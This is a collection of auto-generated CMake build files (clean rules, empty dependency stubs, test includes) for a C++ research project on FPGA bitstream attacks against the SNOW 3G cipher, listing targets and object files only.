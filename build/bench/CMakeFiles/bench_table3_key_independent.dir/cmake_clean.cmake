file(REMOVE_RECURSE
  "CMakeFiles/bench_table3_key_independent.dir/bench_table3_key_independent.cpp.o"
  "CMakeFiles/bench_table3_key_independent.dir/bench_table3_key_independent.cpp.o.d"
  "bench_table3_key_independent"
  "bench_table3_key_independent.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table3_key_independent.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
