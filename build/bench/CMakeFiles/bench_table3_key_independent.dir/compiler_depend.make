# Empty compiler generated dependencies file for bench_table3_key_independent.
# This may be replaced when dependencies are built.
