file(REMOVE_RECURSE
  "CMakeFiles/bench_table6_protected.dir/bench_table6_protected.cpp.o"
  "CMakeFiles/bench_table6_protected.dir/bench_table6_protected.cpp.o.d"
  "bench_table6_protected"
  "bench_table6_protected.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table6_protected.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
