# Empty dependencies file for bench_table6_protected.
# This may be replaced when dependencies are built.
