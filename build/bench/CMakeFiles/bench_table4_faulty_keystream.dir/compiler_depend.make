# Empty compiler generated dependencies file for bench_table4_faulty_keystream.
# This may be replaced when dependencies are built.
