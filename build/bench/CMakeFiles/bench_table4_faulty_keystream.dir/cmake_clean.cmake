file(REMOVE_RECURSE
  "CMakeFiles/bench_table4_faulty_keystream.dir/bench_table4_faulty_keystream.cpp.o"
  "CMakeFiles/bench_table4_faulty_keystream.dir/bench_table4_faulty_keystream.cpp.o.d"
  "bench_table4_faulty_keystream"
  "bench_table4_faulty_keystream.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table4_faulty_keystream.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
