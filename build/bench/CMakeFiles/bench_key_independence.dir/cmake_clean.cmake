file(REMOVE_RECURSE
  "CMakeFiles/bench_key_independence.dir/bench_key_independence.cpp.o"
  "CMakeFiles/bench_key_independence.dir/bench_key_independence.cpp.o.d"
  "bench_key_independence"
  "bench_key_independence.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_key_independence.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
