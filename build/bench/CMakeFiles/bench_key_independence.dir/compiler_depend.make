# Empty compiler generated dependencies file for bench_key_independence.
# This may be replaced when dependencies are built.
