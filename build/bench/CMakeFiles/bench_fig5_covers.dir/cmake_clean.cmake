file(REMOVE_RECURSE
  "CMakeFiles/bench_fig5_covers.dir/bench_fig5_covers.cpp.o"
  "CMakeFiles/bench_fig5_covers.dir/bench_fig5_covers.cpp.o.d"
  "bench_fig5_covers"
  "bench_fig5_covers.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig5_covers.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
