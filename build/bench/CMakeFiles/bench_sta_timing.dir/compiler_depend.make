# Empty compiler generated dependencies file for bench_sta_timing.
# This may be replaced when dependencies are built.
