file(REMOVE_RECURSE
  "CMakeFiles/bench_sta_timing.dir/bench_sta_timing.cpp.o"
  "CMakeFiles/bench_sta_timing.dir/bench_sta_timing.cpp.o.d"
  "bench_sta_timing"
  "bench_sta_timing.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_sta_timing.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
