# Empty dependencies file for bench_findlut_scaling.
# This may be replaced when dependencies are built.
