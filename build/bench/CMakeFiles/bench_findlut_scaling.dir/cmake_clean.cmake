file(REMOVE_RECURSE
  "CMakeFiles/bench_findlut_scaling.dir/bench_findlut_scaling.cpp.o"
  "CMakeFiles/bench_findlut_scaling.dir/bench_findlut_scaling.cpp.o.d"
  "bench_findlut_scaling"
  "bench_findlut_scaling.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_findlut_scaling.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
