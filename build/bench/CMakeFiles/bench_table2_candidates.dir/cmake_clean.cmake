file(REMOVE_RECURSE
  "CMakeFiles/bench_table2_candidates.dir/bench_table2_candidates.cpp.o"
  "CMakeFiles/bench_table2_candidates.dir/bench_table2_candidates.cpp.o.d"
  "bench_table2_candidates"
  "bench_table2_candidates.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table2_candidates.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
