# Empty compiler generated dependencies file for bench_attack_e2e.
# This may be replaced when dependencies are built.
