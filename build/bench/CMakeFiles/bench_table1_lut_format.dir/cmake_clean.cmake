file(REMOVE_RECURSE
  "CMakeFiles/bench_table1_lut_format.dir/bench_table1_lut_format.cpp.o"
  "CMakeFiles/bench_table1_lut_format.dir/bench_table1_lut_format.cpp.o.d"
  "bench_table1_lut_format"
  "bench_table1_lut_format.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table1_lut_format.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
