# Empty compiler generated dependencies file for bench_table1_lut_format.
# This may be replaced when dependencies are built.
