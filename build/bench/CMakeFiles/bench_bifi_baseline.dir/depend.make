# Empty dependencies file for bench_bifi_baseline.
# This may be replaced when dependencies are built.
