file(REMOVE_RECURSE
  "CMakeFiles/bench_bifi_baseline.dir/bench_bifi_baseline.cpp.o"
  "CMakeFiles/bench_bifi_baseline.dir/bench_bifi_baseline.cpp.o.d"
  "bench_bifi_baseline"
  "bench_bifi_baseline.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_bifi_baseline.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
