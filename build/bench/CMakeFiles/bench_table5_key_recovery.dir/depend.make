# Empty dependencies file for bench_table5_key_recovery.
# This may be replaced when dependencies are built.
