file(REMOVE_RECURSE
  "CMakeFiles/bench_table5_key_recovery.dir/bench_table5_key_recovery.cpp.o"
  "CMakeFiles/bench_table5_key_recovery.dir/bench_table5_key_recovery.cpp.o.d"
  "bench_table5_key_recovery"
  "bench_table5_key_recovery.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table5_key_recovery.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
