file(REMOVE_RECURSE
  "CMakeFiles/test_snow3g.dir/test_snow3g.cpp.o"
  "CMakeFiles/test_snow3g.dir/test_snow3g.cpp.o.d"
  "test_snow3g"
  "test_snow3g.pdb"
  "test_snow3g[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_snow3g.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
