# Empty compiler generated dependencies file for test_snow3g.
# This may be replaced when dependencies are built.
