file(REMOVE_RECURSE
  "CMakeFiles/test_bifi.dir/test_bifi.cpp.o"
  "CMakeFiles/test_bifi.dir/test_bifi.cpp.o.d"
  "test_bifi"
  "test_bifi.pdb"
  "test_bifi[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_bifi.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
