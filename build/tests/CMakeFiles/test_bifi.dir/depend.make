# Empty dependencies file for test_bifi.
# This may be replaced when dependencies are built.
