# Empty compiler generated dependencies file for test_attack_e2e.
# This may be replaced when dependencies are built.
