# Empty compiler generated dependencies file for test_attack_failure_modes.
# This may be replaced when dependencies are built.
