file(REMOVE_RECURSE
  "CMakeFiles/test_findlut.dir/test_findlut.cpp.o"
  "CMakeFiles/test_findlut.dir/test_findlut.cpp.o.d"
  "test_findlut"
  "test_findlut.pdb"
  "test_findlut[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_findlut.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
