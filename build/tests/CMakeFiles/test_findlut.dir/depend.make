# Empty dependencies file for test_findlut.
# This may be replaced when dependencies are built.
