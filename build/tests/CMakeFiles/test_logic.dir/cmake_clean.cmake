file(REMOVE_RECURSE
  "CMakeFiles/test_logic.dir/test_logic.cpp.o"
  "CMakeFiles/test_logic.dir/test_logic.cpp.o.d"
  "test_logic"
  "test_logic.pdb"
  "test_logic[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_logic.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
