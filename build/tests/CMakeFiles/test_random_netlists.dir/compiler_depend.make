# Empty compiler generated dependencies file for test_random_netlists.
# This may be replaced when dependencies are built.
