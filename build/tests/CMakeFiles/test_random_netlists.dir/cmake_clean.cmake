file(REMOVE_RECURSE
  "CMakeFiles/test_random_netlists.dir/test_random_netlists.cpp.o"
  "CMakeFiles/test_random_netlists.dir/test_random_netlists.cpp.o.d"
  "test_random_netlists"
  "test_random_netlists.pdb"
  "test_random_netlists[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_random_netlists.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
