file(REMOVE_RECURSE
  "CMakeFiles/test_crypto.dir/test_crypto.cpp.o"
  "CMakeFiles/test_crypto.dir/test_crypto.cpp.o.d"
  "test_crypto"
  "test_crypto.pdb"
  "test_crypto[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_crypto.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
