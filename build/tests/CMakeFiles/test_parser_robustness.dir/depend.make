# Empty dependencies file for test_parser_robustness.
# This may be replaced when dependencies are built.
