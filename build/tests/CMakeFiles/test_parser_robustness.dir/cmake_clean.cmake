file(REMOVE_RECURSE
  "CMakeFiles/test_parser_robustness.dir/test_parser_robustness.cpp.o"
  "CMakeFiles/test_parser_robustness.dir/test_parser_robustness.cpp.o.d"
  "test_parser_robustness"
  "test_parser_robustness.pdb"
  "test_parser_robustness[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_parser_robustness.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
