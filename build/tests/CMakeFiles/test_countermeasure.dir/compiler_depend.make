# Empty compiler generated dependencies file for test_countermeasure.
# This may be replaced when dependencies are built.
