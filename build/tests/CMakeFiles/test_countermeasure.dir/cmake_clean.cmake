file(REMOVE_RECURSE
  "CMakeFiles/test_countermeasure.dir/test_countermeasure.cpp.o"
  "CMakeFiles/test_countermeasure.dir/test_countermeasure.cpp.o.d"
  "test_countermeasure"
  "test_countermeasure.pdb"
  "test_countermeasure[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_countermeasure.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
