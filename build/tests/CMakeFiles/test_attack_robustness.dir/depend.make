# Empty dependencies file for test_attack_robustness.
# This may be replaced when dependencies are built.
