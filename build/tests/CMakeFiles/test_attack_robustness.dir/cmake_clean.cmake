file(REMOVE_RECURSE
  "CMakeFiles/test_attack_robustness.dir/test_attack_robustness.cpp.o"
  "CMakeFiles/test_attack_robustness.dir/test_attack_robustness.cpp.o.d"
  "test_attack_robustness"
  "test_attack_robustness.pdb"
  "test_attack_robustness[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_attack_robustness.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
