file(REMOVE_RECURSE
  "CMakeFiles/test_mapper.dir/test_mapper.cpp.o"
  "CMakeFiles/test_mapper.dir/test_mapper.cpp.o.d"
  "test_mapper"
  "test_mapper.pdb"
  "test_mapper[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_mapper.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
