# Empty dependencies file for test_bitstream.
# This may be replaced when dependencies are built.
