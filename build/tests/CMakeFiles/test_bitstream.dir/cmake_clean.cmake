file(REMOVE_RECURSE
  "CMakeFiles/test_bitstream.dir/test_bitstream.cpp.o"
  "CMakeFiles/test_bitstream.dir/test_bitstream.cpp.o.d"
  "test_bitstream"
  "test_bitstream.pdb"
  "test_bitstream[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_bitstream.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
