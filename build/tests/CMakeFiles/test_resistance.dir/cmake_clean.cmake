file(REMOVE_RECURSE
  "CMakeFiles/test_resistance.dir/test_resistance.cpp.o"
  "CMakeFiles/test_resistance.dir/test_resistance.cpp.o.d"
  "test_resistance"
  "test_resistance.pdb"
  "test_resistance[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_resistance.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
