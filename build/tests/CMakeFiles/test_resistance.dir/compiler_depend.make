# Empty compiler generated dependencies file for test_resistance.
# This may be replaced when dependencies are built.
