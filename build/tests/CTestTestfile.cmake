# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/test_common[1]_include.cmake")
include("/root/repo/build/tests/test_crypto[1]_include.cmake")
include("/root/repo/build/tests/test_snow3g[1]_include.cmake")
include("/root/repo/build/tests/test_logic[1]_include.cmake")
include("/root/repo/build/tests/test_netlist[1]_include.cmake")
include("/root/repo/build/tests/test_mapper[1]_include.cmake")
include("/root/repo/build/tests/test_bitstream[1]_include.cmake")
include("/root/repo/build/tests/test_fpga[1]_include.cmake")
include("/root/repo/build/tests/test_findlut[1]_include.cmake")
include("/root/repo/build/tests/test_countermeasure[1]_include.cmake")
include("/root/repo/build/tests/test_attack_e2e[1]_include.cmake")
include("/root/repo/build/tests/test_bifi[1]_include.cmake")
include("/root/repo/build/tests/test_resistance[1]_include.cmake")
include("/root/repo/build/tests/test_random_netlists[1]_include.cmake")
include("/root/repo/build/tests/test_parser_robustness[1]_include.cmake")
include("/root/repo/build/tests/test_attack_robustness[1]_include.cmake")
include("/root/repo/build/tests/test_edge_cases[1]_include.cmake")
include("/root/repo/build/tests/test_attack_failure_modes[1]_include.cmake")
