file(REMOVE_RECURSE
  "CMakeFiles/encrypted_attack.dir/encrypted_attack.cpp.o"
  "CMakeFiles/encrypted_attack.dir/encrypted_attack.cpp.o.d"
  "encrypted_attack"
  "encrypted_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/encrypted_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
