# Empty compiler generated dependencies file for encrypted_attack.
# This may be replaced when dependencies are built.
