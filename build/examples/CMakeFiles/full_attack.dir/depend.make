# Empty dependencies file for full_attack.
# This may be replaced when dependencies are built.
