
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/examples/full_attack.cpp" "examples/CMakeFiles/full_attack.dir/full_attack.cpp.o" "gcc" "examples/CMakeFiles/full_attack.dir/full_attack.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/attack/CMakeFiles/sbm_attack.dir/DependInfo.cmake"
  "/root/repo/build/src/fpga/CMakeFiles/sbm_fpga.dir/DependInfo.cmake"
  "/root/repo/build/src/bitstream/CMakeFiles/sbm_bitstream.dir/DependInfo.cmake"
  "/root/repo/build/src/mapper/CMakeFiles/sbm_mapper.dir/DependInfo.cmake"
  "/root/repo/build/src/netlist/CMakeFiles/sbm_netlist.dir/DependInfo.cmake"
  "/root/repo/build/src/logic/CMakeFiles/sbm_logic.dir/DependInfo.cmake"
  "/root/repo/build/src/snow3g/CMakeFiles/sbm_snow3g.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/sbm_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/sbm_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
