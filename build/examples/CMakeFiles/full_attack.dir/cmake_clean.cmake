file(REMOVE_RECURSE
  "CMakeFiles/full_attack.dir/full_attack.cpp.o"
  "CMakeFiles/full_attack.dir/full_attack.cpp.o.d"
  "full_attack"
  "full_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/full_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
