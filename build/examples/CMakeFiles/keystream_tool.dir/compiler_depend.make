# Empty compiler generated dependencies file for keystream_tool.
# This may be replaced when dependencies are built.
