file(REMOVE_RECURSE
  "CMakeFiles/keystream_tool.dir/keystream_tool.cpp.o"
  "CMakeFiles/keystream_tool.dir/keystream_tool.cpp.o.d"
  "keystream_tool"
  "keystream_tool.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/keystream_tool.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
