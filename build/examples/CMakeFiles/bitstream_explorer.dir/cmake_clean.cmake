file(REMOVE_RECURSE
  "CMakeFiles/bitstream_explorer.dir/bitstream_explorer.cpp.o"
  "CMakeFiles/bitstream_explorer.dir/bitstream_explorer.cpp.o.d"
  "bitstream_explorer"
  "bitstream_explorer.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bitstream_explorer.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
