# Empty compiler generated dependencies file for bitstream_explorer.
# This may be replaced when dependencies are built.
