file(REMOVE_RECURSE
  "CMakeFiles/protected_design.dir/protected_design.cpp.o"
  "CMakeFiles/protected_design.dir/protected_design.cpp.o.d"
  "protected_design"
  "protected_design.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/protected_design.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
