# Empty compiler generated dependencies file for protected_design.
# This may be replaced when dependencies are built.
