# Empty dependencies file for resistance_report.
# This may be replaced when dependencies are built.
