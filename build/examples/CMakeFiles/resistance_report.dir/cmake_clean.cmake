file(REMOVE_RECURSE
  "CMakeFiles/resistance_report.dir/resistance_report.cpp.o"
  "CMakeFiles/resistance_report.dir/resistance_report.cpp.o.d"
  "resistance_report"
  "resistance_report.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/resistance_report.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
