file(REMOVE_RECURSE
  "CMakeFiles/sbm_fpga.dir/device.cpp.o"
  "CMakeFiles/sbm_fpga.dir/device.cpp.o.d"
  "CMakeFiles/sbm_fpga.dir/system.cpp.o"
  "CMakeFiles/sbm_fpga.dir/system.cpp.o.d"
  "libsbm_fpga.a"
  "libsbm_fpga.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sbm_fpga.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
