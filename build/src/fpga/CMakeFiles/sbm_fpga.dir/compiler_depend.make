# Empty compiler generated dependencies file for sbm_fpga.
# This may be replaced when dependencies are built.
