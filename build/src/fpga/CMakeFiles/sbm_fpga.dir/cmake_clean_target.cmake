file(REMOVE_RECURSE
  "libsbm_fpga.a"
)
