
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/bitstream/assembler.cpp" "src/bitstream/CMakeFiles/sbm_bitstream.dir/assembler.cpp.o" "gcc" "src/bitstream/CMakeFiles/sbm_bitstream.dir/assembler.cpp.o.d"
  "/root/repo/src/bitstream/format.cpp" "src/bitstream/CMakeFiles/sbm_bitstream.dir/format.cpp.o" "gcc" "src/bitstream/CMakeFiles/sbm_bitstream.dir/format.cpp.o.d"
  "/root/repo/src/bitstream/lut_coding.cpp" "src/bitstream/CMakeFiles/sbm_bitstream.dir/lut_coding.cpp.o" "gcc" "src/bitstream/CMakeFiles/sbm_bitstream.dir/lut_coding.cpp.o.d"
  "/root/repo/src/bitstream/parser.cpp" "src/bitstream/CMakeFiles/sbm_bitstream.dir/parser.cpp.o" "gcc" "src/bitstream/CMakeFiles/sbm_bitstream.dir/parser.cpp.o.d"
  "/root/repo/src/bitstream/patcher.cpp" "src/bitstream/CMakeFiles/sbm_bitstream.dir/patcher.cpp.o" "gcc" "src/bitstream/CMakeFiles/sbm_bitstream.dir/patcher.cpp.o.d"
  "/root/repo/src/bitstream/secure.cpp" "src/bitstream/CMakeFiles/sbm_bitstream.dir/secure.cpp.o" "gcc" "src/bitstream/CMakeFiles/sbm_bitstream.dir/secure.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/sbm_common.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/sbm_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/logic/CMakeFiles/sbm_logic.dir/DependInfo.cmake"
  "/root/repo/build/src/mapper/CMakeFiles/sbm_mapper.dir/DependInfo.cmake"
  "/root/repo/build/src/netlist/CMakeFiles/sbm_netlist.dir/DependInfo.cmake"
  "/root/repo/build/src/snow3g/CMakeFiles/sbm_snow3g.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
