file(REMOVE_RECURSE
  "libsbm_bitstream.a"
)
