file(REMOVE_RECURSE
  "CMakeFiles/sbm_bitstream.dir/assembler.cpp.o"
  "CMakeFiles/sbm_bitstream.dir/assembler.cpp.o.d"
  "CMakeFiles/sbm_bitstream.dir/format.cpp.o"
  "CMakeFiles/sbm_bitstream.dir/format.cpp.o.d"
  "CMakeFiles/sbm_bitstream.dir/lut_coding.cpp.o"
  "CMakeFiles/sbm_bitstream.dir/lut_coding.cpp.o.d"
  "CMakeFiles/sbm_bitstream.dir/parser.cpp.o"
  "CMakeFiles/sbm_bitstream.dir/parser.cpp.o.d"
  "CMakeFiles/sbm_bitstream.dir/patcher.cpp.o"
  "CMakeFiles/sbm_bitstream.dir/patcher.cpp.o.d"
  "CMakeFiles/sbm_bitstream.dir/secure.cpp.o"
  "CMakeFiles/sbm_bitstream.dir/secure.cpp.o.d"
  "libsbm_bitstream.a"
  "libsbm_bitstream.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sbm_bitstream.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
