# Empty compiler generated dependencies file for sbm_bitstream.
# This may be replaced when dependencies are built.
