file(REMOVE_RECURSE
  "CMakeFiles/sbm_attack.dir/bifi.cpp.o"
  "CMakeFiles/sbm_attack.dir/bifi.cpp.o.d"
  "CMakeFiles/sbm_attack.dir/countermeasure.cpp.o"
  "CMakeFiles/sbm_attack.dir/countermeasure.cpp.o.d"
  "CMakeFiles/sbm_attack.dir/findlut.cpp.o"
  "CMakeFiles/sbm_attack.dir/findlut.cpp.o.d"
  "CMakeFiles/sbm_attack.dir/oracle.cpp.o"
  "CMakeFiles/sbm_attack.dir/oracle.cpp.o.d"
  "CMakeFiles/sbm_attack.dir/pipeline.cpp.o"
  "CMakeFiles/sbm_attack.dir/pipeline.cpp.o.d"
  "CMakeFiles/sbm_attack.dir/resistance.cpp.o"
  "CMakeFiles/sbm_attack.dir/resistance.cpp.o.d"
  "CMakeFiles/sbm_attack.dir/scan.cpp.o"
  "CMakeFiles/sbm_attack.dir/scan.cpp.o.d"
  "libsbm_attack.a"
  "libsbm_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sbm_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
