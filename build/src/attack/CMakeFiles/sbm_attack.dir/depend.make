# Empty dependencies file for sbm_attack.
# This may be replaced when dependencies are built.
