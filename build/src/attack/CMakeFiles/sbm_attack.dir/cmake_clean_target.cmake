file(REMOVE_RECURSE
  "libsbm_attack.a"
)
