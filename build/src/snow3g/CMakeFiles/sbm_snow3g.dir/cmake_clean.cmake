file(REMOVE_RECURSE
  "CMakeFiles/sbm_snow3g.dir/f8f9.cpp.o"
  "CMakeFiles/sbm_snow3g.dir/f8f9.cpp.o.d"
  "CMakeFiles/sbm_snow3g.dir/gf.cpp.o"
  "CMakeFiles/sbm_snow3g.dir/gf.cpp.o.d"
  "CMakeFiles/sbm_snow3g.dir/reverse.cpp.o"
  "CMakeFiles/sbm_snow3g.dir/reverse.cpp.o.d"
  "CMakeFiles/sbm_snow3g.dir/sbox.cpp.o"
  "CMakeFiles/sbm_snow3g.dir/sbox.cpp.o.d"
  "CMakeFiles/sbm_snow3g.dir/snow3g.cpp.o"
  "CMakeFiles/sbm_snow3g.dir/snow3g.cpp.o.d"
  "libsbm_snow3g.a"
  "libsbm_snow3g.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sbm_snow3g.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
