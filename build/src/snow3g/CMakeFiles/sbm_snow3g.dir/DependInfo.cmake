
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/snow3g/f8f9.cpp" "src/snow3g/CMakeFiles/sbm_snow3g.dir/f8f9.cpp.o" "gcc" "src/snow3g/CMakeFiles/sbm_snow3g.dir/f8f9.cpp.o.d"
  "/root/repo/src/snow3g/gf.cpp" "src/snow3g/CMakeFiles/sbm_snow3g.dir/gf.cpp.o" "gcc" "src/snow3g/CMakeFiles/sbm_snow3g.dir/gf.cpp.o.d"
  "/root/repo/src/snow3g/reverse.cpp" "src/snow3g/CMakeFiles/sbm_snow3g.dir/reverse.cpp.o" "gcc" "src/snow3g/CMakeFiles/sbm_snow3g.dir/reverse.cpp.o.d"
  "/root/repo/src/snow3g/sbox.cpp" "src/snow3g/CMakeFiles/sbm_snow3g.dir/sbox.cpp.o" "gcc" "src/snow3g/CMakeFiles/sbm_snow3g.dir/sbox.cpp.o.d"
  "/root/repo/src/snow3g/snow3g.cpp" "src/snow3g/CMakeFiles/sbm_snow3g.dir/snow3g.cpp.o" "gcc" "src/snow3g/CMakeFiles/sbm_snow3g.dir/snow3g.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/sbm_common.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/sbm_crypto.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
