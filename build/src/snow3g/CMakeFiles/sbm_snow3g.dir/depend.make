# Empty dependencies file for sbm_snow3g.
# This may be replaced when dependencies are built.
