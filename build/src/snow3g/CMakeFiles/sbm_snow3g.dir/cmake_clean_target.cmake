file(REMOVE_RECURSE
  "libsbm_snow3g.a"
)
