# CMake generated Testfile for 
# Source directory: /root/repo/src/snow3g
# Build directory: /root/repo/build/src/snow3g
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
