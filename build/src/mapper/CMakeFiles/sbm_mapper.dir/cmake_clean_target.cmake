file(REMOVE_RECURSE
  "libsbm_mapper.a"
)
