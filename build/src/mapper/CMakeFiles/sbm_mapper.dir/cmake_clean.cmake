file(REMOVE_RECURSE
  "CMakeFiles/sbm_mapper.dir/lut_network.cpp.o"
  "CMakeFiles/sbm_mapper.dir/lut_network.cpp.o.d"
  "CMakeFiles/sbm_mapper.dir/mapper.cpp.o"
  "CMakeFiles/sbm_mapper.dir/mapper.cpp.o.d"
  "CMakeFiles/sbm_mapper.dir/packing.cpp.o"
  "CMakeFiles/sbm_mapper.dir/packing.cpp.o.d"
  "CMakeFiles/sbm_mapper.dir/sta.cpp.o"
  "CMakeFiles/sbm_mapper.dir/sta.cpp.o.d"
  "libsbm_mapper.a"
  "libsbm_mapper.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sbm_mapper.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
