# Empty compiler generated dependencies file for sbm_mapper.
# This may be replaced when dependencies are built.
