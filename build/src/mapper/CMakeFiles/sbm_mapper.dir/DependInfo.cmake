
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/mapper/lut_network.cpp" "src/mapper/CMakeFiles/sbm_mapper.dir/lut_network.cpp.o" "gcc" "src/mapper/CMakeFiles/sbm_mapper.dir/lut_network.cpp.o.d"
